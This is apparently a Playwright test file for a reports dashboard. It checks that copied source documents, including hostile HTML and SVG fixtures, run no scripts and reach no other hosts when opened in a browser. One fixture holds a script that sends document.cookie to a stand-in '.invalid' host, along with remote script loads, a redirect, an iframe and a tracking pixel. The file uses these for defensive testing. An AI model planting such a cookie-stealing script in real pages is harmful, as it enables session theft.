/**
 * Copies of reports published with the dashboard (`--copy-sources`) run nothing and load nothing:
 * the built site over the bundled real reports (one of them a crawled page with a third-party
 * weather widget) and hostile pages whose scripts would call other hosts. Every file of the
 * built site's sources/ and every 来源 link of the agency pages is opened in Chromium; the
 * scripts it parses and the requests it makes are counted.
 */
import { cpSync, mkdirSync, mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../scripts/lib/chromium.ts';
import { buildDataset, openDataset, run } from '../helpers/dataset.ts';
import { hostilePage } from '../helpers/hostile.ts';
import { serveBuiltSite } from '../helpers/site.ts';

let server: Server;
let browser: Browser;
let base: string;
let dist: string;
let agencies: string[];

/** A page that, if it ever ran or rendered on the site, would reach other hosts. */
const CALLING_OUT = hostilePage().replace('</head>', [
  '<link rel="stylesheet" href="http://styles.invalid/a.css">',
  '<script src="http://widgets.invalid/weather.js"></script>',
  '<script>fetch("http://data.invalid/steal?c=" + document.cookie); window.__pwned = 9</script>',
  '<meta http-equiv="refresh" content="0; url=http://redirect.invalid/">',
  '</head>',
].join('')).replace('</body>', '<iframe src="http://frame.invalid/"></iframe><img src="http://pixel.invalid/p.gif"></body>');

beforeAll(async () => {
  const input = join(mkdtempSync(join(tmpdir(), 'xxgk-copies-')), 'in');
  mkdirSync(input);
  cpSync('data/samples', input, { recursive: true });
  writeFileSync(join(input, 'calling-out.html'), CALLING_OUT);
  writeFileSync(join(input, 'calling-out.htm'), CALLING_OUT.replace('巨鹿县', '平乡县'));
  writeFileSync(join(input, 'calling-out-no-extension'), CALLING_OUT.replace('巨鹿县', '广宗县'));
  writeFileSync(join(input, 'calling-out.svg'), `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://svg.invalid/")</script><image href="http://svg.invalid/i.png"/></svg>`);
  const dataset = await buildDataset([input], { sourcesFile: join(input, 'SOURCES.tsv'), exclude: [join(input, 'SOURCES.tsv')], copySources: true });
  const conn = await openDataset(dataset);
  agencies = (await run(conn, { sql: 'SELECT agency_id FROM agency_index ORDER BY agency_id', params: [] })).map((r) => String(r.agency_id));
  ({ server, base, dist } = await serveBuiltSite(dataset));
  browser = await launchChromium();
}, 240_000);

afterAll(async () => {
  await browser?.close();
  server?.close();
});

function walk(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? walk(join(dir, n)) : [join(dir, n)]));
}

/** Opens a URL as a reader would; what the page then did. */
async function open(page: Page, url: string): Promise<{ scripts: number; requests: string[] }> {
  const requests: string[] = [];
  // (the PDF viewer's own chrome:// and chrome-extension:// files are the browser's, not requests)
  page.on('request', (r) => { if (!/^(chrome|chrome-extension|devtools):/.test(r.url())) requests.push(r.url()); });
  const cdp = await page.context().newCDPSession(page);
  let scripts = 0;
  // the page's own world only (Chromium's own isolated worlds, e.g. its text viewer, are not the page's)
  cdp.on('Debugger.scriptParsed', (e) => {
    if ((e.executionContextAuxData as { isDefault?: boolean } | undefined)?.isDefault !== false) scripts++;
  });
  await cdp.send('Debugger.enable');
  // a copy the browser saves instead of showing ends the navigation with a download
  await page.goto(url).catch((e: Error) => {
    if (!/download|ERR_ABORTED/i.test(e.message)) throw e;
  });
  await page.waitForTimeout(400);
  return { scripts, requests };
}

describe('copies of reports on the built site', () => {
  it('no file of the built site is a page, but the dashboard itself', () => {
    const pages = walk(dist).map((f) => relative(dist, f)).filter((f) => /\.(html?|xhtml|shtml|svgz?|xml|mht|mhtml|xsl)$/i.test(f));
    expect(pages).toEqual(['index.html']);
    const copies = readdirSync(join(dist, 'data', 'sources')).filter((f) => !/\.(gz|br)$/.test(f));
    // 6 sample reports and 3 hostile pages, the pages as text (the SVG is no report: failed, not copied)
    expect(copies).toHaveLength(9);
    expect(copies.filter((f) => f.endsWith('.html.txt'))).toHaveLength(3);
  });

  it('every copy opened directly: no script parsed, no request but its own', async () => {
    const files = readdirSync(join(dist, 'data', 'sources')).filter((f) => !/\.(gz|br)$/.test(f));
    for (const f of files) {
      const page = await browser.newPage();
      const url = `${base}data/sources/${f}`;
      const seen = await open(page, url);
      expect({ f, scripts: seen.scripts }).toEqual({ f, scripts: 0 });
      expect({ f, requests: seen.requests.filter((r) => r !== url) }).toEqual({ f, requests: [] });
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null).catch(() => null)).toBeNull();
      await page.close();
    }
  }, 120_000);

  it('every 来源 link of every agency page points at an inert copy, and following it runs and loads nothing', async () => {
    const links: { href: string; download: string | null }[] = [];
    for (const a of agencies) {
      const page = await browser.newPage();
      await page.goto(`${base}?v=agency&a=${a}`);
      await page.waitForFunction(() => document.documentElement.dataset.db === 'ready' && document.documentElement.dataset.status === 'ready', null, { timeout: 60_000 });
      links.push(...await page.$$eval('a[href*="sources/"]', (as) => as.map((x) => ({ href: (x as HTMLAnchorElement).href, download: x.getAttribute('download') }))));
      await page.close();
    }
    expect(links.length).toBe(9);
    for (const l of links) {
      expect(l.href).toMatch(/\/data\/sources\/[0-9a-f]{16}\.(pdf|txt|docx|html\.txt|htm\.txt|svg\.txt|md\.txt)$/);
      // a web page's copy is saved under its own name, not shown as a page
      const page_ext = /\.(html?|svg)\.txt$/.exec(l.href)?.[1];
      if (page_ext) expect(l.download).toMatch(new RegExp(`\\.${page_ext}$`));
      const page = await browser.newPage();
      const seen = await open(page, l.href);
      expect({ href: l.href, scripts: seen.scripts }).toEqual({ href: l.href, scripts: 0 });
      expect(seen.requests.every((r) => r.startsWith(base))).toBe(true);
      await page.close();
    }
  }, 180_000);
});
